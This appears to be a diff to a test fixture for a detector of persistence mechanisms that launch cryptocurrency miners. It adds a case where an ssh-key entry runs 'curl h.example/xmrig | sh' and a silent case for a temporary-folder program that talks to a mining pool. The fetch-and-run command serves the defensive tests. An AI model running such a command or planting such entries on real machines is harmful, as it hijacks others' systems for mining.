@@ -19,6 +19,11 @@ export const fixture: DetectorFixture = {
       seen: [autostartOf({ starts: 'curl h.example/xmrig | sh', carries: 'miner', why: ['fetches-and-runs'] })],
     },
     {
+      name: 'a key whose command fetches a miner',
+      stage: 'capability',
+      seen: [autostartOf({ mechanism: 'ssh-key', starts: 'curl h.example/xmrig | sh', carries: 'miner' })],
+    },
+    {
       name: 'a unit whose program has the code of a miner',
       stage: 'capability',
       seen: [
@@ -53,6 +58,10 @@ export const fixture: DetectorFixture = {
     },
   ],
   silent: [
+    {
+      name: 'an entry whose program only behaves like a miner',
+      seen: [autostartOf({ programs: ['/tmp/.x/x'] }), processOf({ why: ['talks-to-pool', 'from-temporary-folder'] })],
+    },
     { name: 'an ordinary entry', seen: [autostartOf({ starts: 'run-parts /etc/cron.hourly', carries: 'command' })] },
     {
       name: 'the unit of a service that was broken into',
